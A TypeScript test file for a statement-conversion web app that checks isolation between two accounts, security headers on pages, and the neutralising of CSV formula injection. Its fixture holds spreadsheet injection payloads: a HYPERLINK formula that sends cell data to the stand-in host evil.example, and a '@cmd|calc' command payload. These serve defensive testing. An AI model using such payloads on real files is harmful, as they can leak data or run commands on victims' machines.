// Two accounts through every endpoint and page: neither sees the other's conversions, keys, rules or
// usage. Plus the output guards: formula injection neutralised end to end, security headers on pages.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CATEGORY_IDS } from '../../src/engine/classify/index.js';
import { accountWithKey, createTestApp, type TestApp } from '../helpers/app.js';
import { fileUpload } from '../helpers/multipart.js';
import { WebClient } from '../web/web-client.js';

const ALICE_CSV = [
  'Date,Description,Money Out,Money In,Balance',
  '01/03/2024,=HYPERLINK("http://evil.example/?x="&A1;"click") ALICEONLY,12.30,,987.70',
  '02/03/2024,+SUM(1+1) @cmd|calc ALICEONLY,,1500.00,2487.70',
  '03/03/2024,-2+3 ALICEONLY,45.00,,2442.70',
  '',
].join('\r\n');

describe('isolation between two accounts', () => {
  let t: TestApp;
  let alice: { key: string; keyId: string; account: { id: string } };
  let bob: { key: string; keyId: string; account: { id: string } };
  const api = (key: string, url: string, method: 'GET' | 'POST' | 'DELETE' = 'GET', payload?: unknown) =>
    t.app.inject({ method, url, headers: { 'x-api-key': key }, ...(payload ? { payload: payload as Record<string, unknown> } : {}) });

  beforeAll(async () => {
    t = await createTestApp();
    alice = await accountWithKey(t, 'pro', 'alice@example.com');
    bob = await accountWithKey(t, 'pro', 'bob@example.com');
    const up = fileUpload(ALICE_CSV, 'alice-private.csv');
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/convert', headers: { ...up.headers, 'x-api-key': alice.key }, payload: up.payload });
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
  });
  afterAll(() => t.close());

  it("B's conversion list, usage and rules show nothing of A's", async () => {
    const list = await api(bob.key, '/api/v1/conversions');
    expect(list.statusCode).toBe(200);
    expect(list.json().conversions).toEqual([]);
    expect(list.body).not.toContain('alice');
    const usage = await api(bob.key, '/api/v1/usage');
    if (usage.statusCode !== 404) {
      expect(usage.statusCode).toBe(200);
      expect(usage.json().conversions.used).toBe(0);
      expect(usage.body).not.toContain('alice');
    }
    const aUsage = await api(alice.key, '/api/v1/usage');
    if (aUsage.statusCode !== 404) expect(aUsage.json().conversions.used).toBe(1);
  });

  it("B can neither list nor delete A's classification rules", async () => {
    const created = await api(alice.key, '/api/v1/classify/rules', 'POST', { pattern: 'ALICEONLY', category: CATEGORY_IDS[0] });
    if (created.statusCode === 404) return; // classify feature not mounted
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().id;
    expect((await api(bob.key, '/api/v1/classify/rules')).json().rules).toEqual([]);
    const del = await api(bob.key, `/api/v1/classify/rules/${id}`, 'DELETE');
    expect(del.statusCode).toBe(404);
    expect((await api(alice.key, '/api/v1/classify/rules')).json().rules.map((r: { id: string }) => r.id)).toContain(id);
  });

  it("B cannot revoke A's key (service and page), and A's key keeps working", async () => {
    await expect(t.ctx.apiKeys.revoke(alice.keyId, bob.account.id)).rejects.toMatchObject({ code: 'not_found' });
    expect((await t.ctx.apiKeys.list(bob.account.id)).map((k) => k.id)).not.toContain(alice.keyId);
    const b = new WebClient(t);
    await b.login('bob@example.com');
    const revoke = await b.form(`/app/keys/${alice.keyId}/revoke`, { _csrf: await b.csrf() });
    expect(revoke.statusCode).toBe(404);
    expect((await api(alice.key, '/api/v1/conversions')).statusCode).toBe(200);
    for (const page of ['/app/account', '/app/conversions', '/app/convert']) {
      const res = await b.get(page);
      expect(res.statusCode, page).toBe(200);
      expect(res.body).not.toContain('alice');
      expect(res.body).not.toContain(alice.keyId);
      expect(res.body).not.toContain(alice.key.slice(0, 12));
    }
  });

  it('pages carry the security headers', async () => {
    const b = new WebClient(t);
    for (const url of ['/login', '/signup']) {
      const res = await b.get(url);
      expect(res.headers['content-security-policy']).toMatch(/default-src 'self'.*frame-ancestors 'none'/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['x-frame-options']).toBe('DENY');
      expect(res.headers['referrer-policy']).toBeTruthy();
    }
    await b.login('bob@example.com');
    const app = await b.get('/app/conversions');
    expect(app.headers['content-security-policy']).toBeTruthy();
    expect(String(app.headers['set-cookie'] ?? '')).not.toMatch(/ll_live_/);
  });

  it('formula injection is neutralised in a CSV download, numbers untouched', async () => {
    const up = fileUpload(ALICE_CSV, 'alice.csv');
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/convert?format=csv',
      headers: { ...up.headers, 'x-api-key': alice.key },
      payload: up.payload,
    });
    expect(res.statusCode).toBe(200);
    const rows = res.body.trim().split('\r\n').slice(1);
    expect(rows).toHaveLength(3);
    for (const r of rows) {
      const cells = r.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
      expect(cells[1], r).toMatch(/^'[=+\-@]/);
    }
    expect(res.body).toMatch(/,-12\.30,/);
  });
});
